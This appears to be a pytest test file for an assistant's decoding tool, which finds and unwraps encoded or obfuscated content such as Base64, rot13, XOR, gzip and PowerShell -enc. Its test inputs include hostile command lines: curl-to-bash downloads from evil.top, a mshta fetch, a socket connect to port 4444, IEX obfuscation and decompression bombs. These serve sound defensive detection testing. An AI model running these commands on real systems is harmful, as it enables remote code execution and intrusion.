"""Decoding: each encoding, chains of them, blobs inside commands, ordinary text, and hostile input."""

from __future__ import annotations

import base64
import codecs
import gzip
import io
import random
import zipfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from svc.assistant.findings import Facts, Finding, Gap, Severity, with_facts
from svc.assistant.skills.decode.decoders import MAX_LAYER_BYTES
from svc.assistant.skills.decode.findings import DecodedPart, DecodeLayer
from svc.assistant.skills.decode.plausibility import plausibility
from svc.assistant.skills.decode.search import GOOD
from svc.assistant.skills.decode.tool import inspect
from svc.assistant.skills.indicators.findings import IndicatorFacts
from tests.support import chains, mixed_chains
from tests.support.attack_sentences import Half
from tests.support.plain_texts import plain_texts
from tests.support.sampling import sampled

WIDE = base64.b64encode("IEX $x; whoami".encode("utf-16-le")).decode()


def inspected(text: str) -> list[Finding[Facts]]:
    return [item for item in inspect(text, source="prompt") if isinstance(item, Finding)]


@pytest.mark.parametrize("text", ["CVE-2021-44228", "CWE-79", "KB5005565", "2026-11-20", "T1059.001"])
def test_an_identifier_is_not_decoded(text: str) -> None:
    assert not inspected(text)


def parts(text: str) -> list[Finding[DecodedPart]]:
    return with_facts(inspected(text), DecodedPart)


def results(text: str) -> list[str]:
    return [part.facts.text for part in parts(text)]


@pytest.mark.parametrize("name", [name for name in chains.WRAPPERS if name != "jwt"])
@pytest.mark.parametrize("plain", [chains.PLAIN[1], chains.PLAIN[2]], ids=["prose", "command"])
def test_each_encoding_alone_is_decoded(name, plain):
    wrapped = chains.WRAPPERS[name](plain.encode(), random.Random(5)).decode()
    assert plain in results(f"decode this: {wrapped}")


@pytest.mark.parametrize(
    "wrapped",
    [
        base64.b32encode(chains.PLAIN[1].encode()).decode(),
        base64.b85encode(chains.PLAIN[1].encode()).decode(),
        base64.encodebytes(chains.PLAIN[1].encode()).decode(),
    ],
    ids=["base32", "base85", "base64 lines"],
)
@pytest.mark.parametrize("name", ["payload = ", "the payload: ", "$data='"])
def test_a_name_before_encoded_data_is_not_part_of_it(name, wrapped):
    assert chains.PLAIN[1] in results(name + wrapped.strip() + ("';" if name.endswith("'") else ""))


def test_the_name_of_an_encoding_is_not_decoded_with_the_rest():
    assert results("rot13: phey uggc://rivy.pbz/n") == ["curl http://evil.com/a"]


def test_backticks_within_a_run_are_not_quotes():
    plain = "import socket,subprocess;s=socket.socket();s.connect(('10.9.8.7',4444))"
    wrapped = base64.b85encode(plain.encode()).decode()
    assert wrapped.count("`") == 2
    assert results(wrapped) == [plain]


def solved(seeds: range, *, layers: int = 4, plains: tuple[str, ...] = chains.PLAIN) -> tuple[int, list[str]]:
    failed = []
    for seed in seeds:
        rng = random.Random(seed)
        plain, wrapped, names = chains.chain(rng, rng.randint(1, layers), plains=plains)
        if not any(plain in text for text in results(f"decode this: {wrapped}")):
            failed.append(f"{seed}: {names}")
    return len(seeds) - len(failed), failed


def test_chains_of_one_to_four_layers_are_decoded():
    right, failed = solved(range(60))
    assert right >= 57, failed


def test_the_sign_that_joins_two_calls_may_be_a_character_of_the_text():
    plain = "a&b+c & curl http://198.51.100.7/x.sh"
    assert plain in results("decode this: " + "+".join(f"[char]{ord(char)}" for char in plain))


@pytest.mark.parametrize("half", ["open", pytest.param("held", marks=pytest.mark.slow)])
def test_texts_that_nobody_has_encoded_are_left_alone(half: Half) -> None:
    decoded = [text for text in plain_texts(half) if parts(text)]
    assert len(decoded) <= 0.02 * len(plain_texts(half))


@pytest.mark.parametrize(
    "text",
    ["</svg>", "if err != nil {", "SFX G Y 1", "previous", "fr_CA.UTF-8 UTF-8", "date: Jul 9, 2019", "# pyre-strict"],
)
def test_what_a_guess_makes_of_a_short_text_by_chance_is_not_reported(text: str) -> None:
    assert not parts(text)


def test_a_short_text_that_a_guess_turns_into_words_is_decoded_without_a_request() -> None:
    assert "the password is hidden" in results("gur cnffjbeq vf uvqqra")


@pytest.mark.parametrize(
    "text",
    ["E = mc^2 and F = m1*m2/r^2", "Use %20 for a space and %2F for a slash in a URL", ". . . - - - . . . is SOS"],
)
def test_what_only_mentions_an_encoding_is_not_decoded(text: str) -> None:
    assert results(f"decode this: {text}") == []


@pytest.mark.parametrize("key", [0x21, 0x5A, 0xC3])
def test_an_alphabet_over_base64_over_a_key_is_decoded(key: int):
    """Base64 in another alphabet is Base64 still: only a key below it tells the right alphabet."""
    plain = "mshta http://203.0.113.44/run.hta"
    wrapped = codecs.encode(base64.b64encode(bytes(char ^ key for char in plain.encode())).decode(), "rot13")
    assert plain in results(f"decode this: {wrapped}")


@pytest.mark.long
def test_chains_of_one_to_four_layers_are_decoded_long():
    right, failed = solved(range(1_000, 1_600))
    assert right >= 570, failed


@pytest.mark.slow
def test_chains_of_up_to_six_layers_around_other_kinds_of_text_are_decoded():
    right, failed = solved(range(5_000, 5_016), layers=6, plains=chains.HELD_PLAIN)
    assert right >= 14, failed


@pytest.mark.long
def test_chains_of_up_to_six_layers_around_other_kinds_of_text_are_decoded_long():
    right, failed = solved(range(6_000, 6_200), layers=6, plains=chains.HELD_PLAIN)
    assert right >= 180, failed


@pytest.mark.parametrize(
    ("seeds", "plains"),
    [
        pytest.param(range(70_000, 70_006), mixed_chains.PLAIN, id="texts seen before"),
        pytest.param(range(80_000, 80_006), mixed_chains.HELD_PLAIN, id="other texts"),
        pytest.param(range(70_006, 70_022), mixed_chains.PLAIN, id="more, texts seen before", marks=pytest.mark.slow),
        pytest.param(range(80_006, 80_022), mixed_chains.HELD_PLAIN, id="more, other texts", marks=pytest.mark.slow),
        pytest.param(range(71_000, 71_150), mixed_chains.PLAIN, id="many, texts seen before", marks=pytest.mark.long),
        pytest.param(range(81_000, 81_150), mixed_chains.HELD_PLAIN, id="many, other texts", marks=pytest.mark.long),
    ],
)
@pytest.mark.slow
def test_mixed_chains_around_texts_of_several_languages_are_decoded(seeds: range, plains: tuple[str, ...]) -> None:
    failed = []
    for seed in seeds:
        plain, wrapped, names = mixed_chains.mixed_chain(random.Random(seed), plains)
        found = results(f"decode this:\n{wrapped}")
        expected = {plain, plain.upper()} if "morse" in names else {plain}
        if not any(one in text for one in expected for text in found):
            failed.append(f"{seed}: {names}")
    assert len(failed) <= len(seeds) * 0.07, failed


@pytest.mark.parametrize(
    ("text", "result"),
    [
        pytest.param(
            "decode: \\u{48}\\u{e9}\\u{6c}\\u{6c}\\u{6f}\\u{20}\\u{1f600}\\u{20}\\u{77}\\u{6f}\\u{72}\\u{6c}\\u{64}",
            "Héllo 😀 world",
            id="escapes in braces",
        ),
        pytest.param("decode: &#xD0;&#x9F;&#xD0;&#xBE;&#xD1;&#x80;&#xD1;&#x82;", "Порт", id="entities of bytes"),
        pytest.param("decode: &#8220;quoted&#8221; &#150; text", "“quoted” \u2013 text", id="entities of characters"),
        pytest.param("decode: data=d2hvYW1pIC9hbGwgJiYgbmV0IHVzZXI%3D", "whoami /all && net user", id="form"),
        pytest.param("decode: Yr enccbeg n égé raiblé à y'édhvcr", "Le rapport a été envoyé à l'équipe", id="accents"),
    ],
)
def test_escapes_of_other_alphabets_are_decoded(text: str, result: str) -> None:
    assert result in results(text)


@pytest.mark.parametrize("key", [b"\x5a", b"\xc3", b"\x17\x2b"])
@pytest.mark.parametrize(
    "plain", ["Le rapport a été envoyé à l'équipe de sécurité.", "Смените пароль до пятницы, пожалуйста."]
)
def test_text_with_accents_and_of_other_scripts_is_found_behind_a_key(plain: str, key: bytes) -> None:
    hidden = bytes(value ^ key[place % len(key)] for place, value in enumerate(plain.encode()))
    assert plain in results(f"decode this: {hidden.hex()}")


@pytest.mark.parametrize(
    ("text", "is_written"),
    [
        ("请在星期五之前更改您的密码。", True),
        ("회의는 오후 세 시에 시작합니다.", True),
        ("Пожалуйста, смените пароль", True),
        ("Оюзакмхимя, вьумэзу обямкщ", False),
        ("齾龘靐齉爩鱻麤龗灪厵", False),
        ("abcжώشд字한ไת", False),
    ],
)
def test_another_script_reads_well_if_its_characters_are_common(text: str, is_written: bool) -> None:
    assert (plausibility(text.encode()) >= GOOD) is is_written


def test_the_claims_of_a_token_are_decoded():
    wrapped = chains.WRAPPERS["jwt"](chains.PLAIN[1].encode(), random.Random(5)).decode()
    (text,) = results(f"decode this: {wrapped}")
    assert '"data": "The meeting is moved to Thursday at noon."' in text


def test_a_repeated_key_is_found():
    plain = chains.PLAIN[2].encode()
    wrapped = bytes(value ^ b"k3y"[place % 3] for place, value in enumerate(plain)).hex()
    (part,) = parts(f"decode this: {wrapped}")
    assert part.facts.text == plain.decode()
    assert part.facts.path == f"hex, XOR with the key 0x{b'k3y'.hex()}"


def test_a_guess_is_proven_by_the_checksum_of_a_later_layer():
    packed = gzip.compress(b"whoami", mtime=0)
    wrapped = base64.b64encode(bytes(value ^ 0x5A for value in packed)).decode()
    assert results(f"decode this: {wrapped}") == ["whoami"]


def test_bytes_of_characters_are_read_as_utf8():
    plain = "Встреча состоится завтра в полдень."
    codes = "+".join(f"chr({value})" for value in plain.encode())
    assert plain in results(f"decode this: {codes}")


@pytest.mark.parametrize(
    "text",
    [
        "DEFAULT-CALLBACK-BEHAVIOUR",
        "see /usr/share/common-licenses/GPL-2 for the text",
        "sk_live_WtxJTQr1FqXSTs98vPlL2aEJ",
        "arn:aws:iam::216827521748:role/AdminRole",
        "T4KDF-8ZCPW-Q30JD-C5VNI-I0GK1",
        "sha256:56bf92d5d98065e5751f75143a5f61debc267b0bc8d3b1939a9b4ddbe45cf642",
        "01ARZ3NDEKTSV4RRFFQ69G5FAV",
        "20.3.114.7 10:15:00 -0500 build 4711-7 a/b/c.d",
    ],
)
def test_identifiers_are_not_decoded_by_guessing(text: str):
    assert results(text) == []


@pytest.mark.parametrize(
    ("text", "result"),
    [
        (f"powershell -nop -w hidden -enc {WIDE}", "IEX $x; whoami"),
        ("echo aWQ7d2hvYW1p | base64 -d | bash", "id;whoami"),
        ("eval(atob('YWxlcnQoMSk='))", "alert(1)"),
        ("decode aGVsbG8gd29ybGQ=", "hello world"),
        ("what does SGVsbG8= mean?", "Hello"),
        ("Uryyb Jbeyq", "Hello World"),
        (".... . .-.. .-.. --- / .-- --- .-. .-.. -..", "HELLO WORLD"),
        ("$a='Down'+'load'+'String'", "$a='DownloadString'"),
        ("(\"{1}{0}\" -f 'X','IE')", "'IEX'"),
        ("c^md /c e^cho hi", "cmd /c echo hi"),
        ("```\naGVsbG8gd29ybGQ=\n```", "hello world"),
    ],
    ids=["-enc", "pipe", "atob", "asked", "asked about", "bare rot13", "morse", "joined", "-f", "carets", "fenced"],
)  # fmt: skip
def test_the_encoded_part_is_found_in_its_context(text, result):
    assert result in results(text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "decode this:",
        "what is CWE-79 and how do I fix it?",
        "The quick responsibility of internationalization",
        "d41d8cd98f00b204e9800998ecf8427e",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "550e8400-e29b-41d4-a716-446655440000",
        "Nov 20 10:00:00 host sshd[1]: Failed password for root from 1.2.3.4 port 22 ssh2",
        "https://example.com/path/to/Some/LongFileNameHere.html?session=abcdef1234567890",
        "def internationalization(parameterDescription): return parameterDescription",
        "192.168.1.1 10.0.0.1 2026-11-20 03:12:45 1,234,567",
    ],
)
def test_ordinary_text_is_left_alone(text):
    assert results(text) == []


def test_noise_is_a_gap():
    noise = random.Random(3).randbytes(300).hex()
    items = list(inspect(f"decode this: {noise}", source="prompt"))
    assert not [item for item in items if isinstance(item, Finding)]
    assert any(isinstance(item, Gap) and "a key may be missing" in item.text for item in items)


def test_each_layer_is_shown_in_order_and_the_indicators_of_the_last():
    plain = "curl http://evil.top/x.sh | bash"
    wrapped = base64.b64encode(gzip.compress(plain.encode())).hex()
    found = inspected(wrapped)
    assert [layer.facts.encoding for layer in with_facts(found, DecodeLayer)] == ["hex", "Base64", "gzip"]
    (result,) = with_facts(found, DecodedPart)
    assert (result.facts.path, result.facts.text) == ("hex, Base64, gzip", plain)
    assert result.severity == Severity.HIGH
    assert "http://evil.top/x.sh" in [one.facts.value for one in with_facts(found, IndicatorFacts)]


def test_a_guess_is_marked_as_such():
    (result,) = parts("Gur zrrgvat vf zbirq gb Guhefqnl ng abba.")
    assert result.confidence == "medium"
    assert "guessed from the result: rot13" in result.why


def test_a_program_inside_is_named_and_hashed():
    program = b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(200)
    (result,) = parts(base64.b64encode(program).decode())
    assert result.facts.form == "Windows program (PE)"
    assert result.facts.text == ""
    assert result.severity == Severity.HIGH


def bomb(kind: str) -> str:
    zeros = b"whoami; " * 4_000_000
    if kind == "zip":
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("a", zeros)
        return base64.b64encode(packed.getvalue()).decode()
    return base64.b64encode({"gzip": gzip.compress, "zlib": zlib.compress}[kind](zeros)).decode()


@pytest.mark.parametrize("kind", ["gzip", "zlib", "zip"])
def test_a_decompression_bomb_is_cut(kind):
    (result,) = parts(bomb(kind))
    assert result.facts.is_cut is True
    assert result.facts.size <= MAX_LAYER_BYTES


@pytest.mark.parametrize(
    "text",
    sampled(["A" * 200_000, "%41" * 60_000, "&#65;" * 40_000, "\\x41" * 40_000, "[char]65+" * 20_000, "'a'+" * 40_000,
     "1," * 60_000, "01" * 60_000, ".-" * 60_000, "=41" * 60_000, "<~" * 60_000, "eyJ" * 40_000, "{0}" * 40_000,
     "QUJD" * 20 + "\n" + ("QUJD" * 20 + "\n") * 2_000, "`" * 60_000, "begin 644 a\n" * 5_000], 6),
    ids=lambda text: repr(text[:9]),
)  # fmt: skip
@pytest.mark.timeout(40)
def test_hostile_repetition_ends_quickly(text):
    assert list(inspect(text, source="x"))


PIECES = [
    "=", "==", "\\x41", "%u0041", "[char]65", "+", "'a'", "-f", "{0}", "<~", "~>", "eyJ", ".", "SGVs", "414243", "\n",
    " ",    "&#65;", "é", "\0", "H4sI", "\\101", "begin 644 a\n", "end", "`", "65,", "0x41,", "chr(65)", "&#1114112;",
    "\\ud800",     "fromCharCode(65,66,99999999)", "[char]99999",
]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join) | st.text(max_size=60))
@settings(max_examples=120, deadline=None)
def test_any_text_is_read_without_an_exception(text):
    assert list(inspect(text, source="x"))


@given(st.binary(min_size=1, max_size=200))
@settings(max_examples=40, deadline=None)
def test_any_encoded_bytes_are_read(data):
    for head in (b"\x1f\x8b\x08", b"x\x9c", b"BZh9", b"\xfd7zXZ\0", b"PK\x03\x04", b""):
        assert list(inspect(base64.b64encode(head + data).decode(), source="x"))


@pytest.mark.parametrize(
    ("text", "result"),
    [
        pytest.param("explain powershell -enc SQBFAFgA", "IEX", id="three letters"),
        pytest.param("pwsh -nop -e bABzAA==", "ls", id="two letters, the shortest option"),
        pytest.param("powershell.exe /ec dwBoAG8AYQBtAGkA", "whoami", id="slash and ec"),
        pytest.param("decode: POWERSHELL -EncodedCommand 'aQBkAA=='", "id", id="long option, quoted"),
        pytest.param("[Convert]::FromBase64String('aWQ=')", "id", id="call of .NET"),
        pytest.param("echo bHM= | base64 -d | sh", "ls", id="pipe of a shell"),
        pytest.param("bash -c $(base64 --decode <<< aWQ=)", "id", id="here-string"),
        pytest.param('eval(atob("YWxlcnQoMSk="))', "alert(1)", id="atob"),
        pytest.param("data:text/plain;base64,aGk=", "hi", id="data address"),
    ],
)
def test_a_part_with_a_stated_encoding_is_decoded_however_short(text: str, result: str):
    assert results(text) == [result]


@pytest.mark.parametrize("text", ["grep -e pattern file.txt", "powershell -ep bypass", "tar -exclude some/path"])
def test_other_options_state_no_encoding(text: str):
    assert results(text) == []


@pytest.mark.parametrize(
    ("text", "result"),
    [
        pytest.param("decode: 1-20-20-1-3-11 1-20 4-1-23-14", "attack at dawn", id="letter numbers"),
        pytest.param("decode: 8 5 12 12 15 / 23 15 18 12 4", "hello world", id="letter numbers with slashes"),
        pytest.param(
            "decode this:\n0000000 6877 616f 696d 2f20 6c61 206c 2626 6e20\n0000010 7465 7520 6573 0072\n0000017",
            "whoami /all && net user",
            id="words of hexdump",
        ),
        pytest.param(
            "decode this: -.- . -.-- ---.. ---.. ....- ..--- .... --- ... - -.-. ..---",
            "KEY8842HOSTC2",
            id="morse, no words",
        ),
        pytest.param(
            "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('Q1RGe24wdF9zMF9oNHJkfQ=='))",
            "CTF{n0t_s0_h4rd}",
            id="a call whose result is no words",
        ),
    ],
)
def test_forms_that_state_what_they_are_are_decoded(text: str, result: str) -> None:
    assert result in results(text)


def test_what_a_layer_states_is_decoded_behind_another_layer() -> None:
    inner = "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('Q1RGe24wdF9zMF9oNHJkfQ=='))"
    assert any("CTF{n0t_s0_h4rd}" in text for text in results(inner.encode().hex()))


@pytest.mark.parametrize(
    "text",
    [
        "10.20.1.5",
        "12/11/24 9:05",
        "1-800-22-12-6",
        "scores: 3, 7, 21, 14, 9, 2, 11, 5",
        "7 14 21 3 22 17 9",
        "2.1.14-3",
    ],
)
def test_numbers_are_not_taken_for_letters(text: str) -> None:
    assert not inspected(text)
